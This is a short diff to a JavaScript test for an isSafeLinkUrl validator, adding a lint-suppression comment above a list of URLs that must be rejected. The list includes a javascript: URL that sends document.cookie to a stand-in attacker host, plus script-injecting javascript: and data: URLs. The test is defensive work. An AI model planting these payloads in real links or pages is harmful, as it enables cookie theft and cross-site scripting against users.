@@ -10,6 +10,7 @@ describe('isSafeLinkUrl', () => {
       expect(isSafeLinkUrl(url)).toBe(true);
     }
     for (const url of [
+      // eslint-disable-next-line no-script-url -- the address that must never be linked
       'javascript:fetch("//evil.example/"+document.cookie)',
       ' javascript:alert(1)',
       'data:text/html,<script>alert(1)</script>',
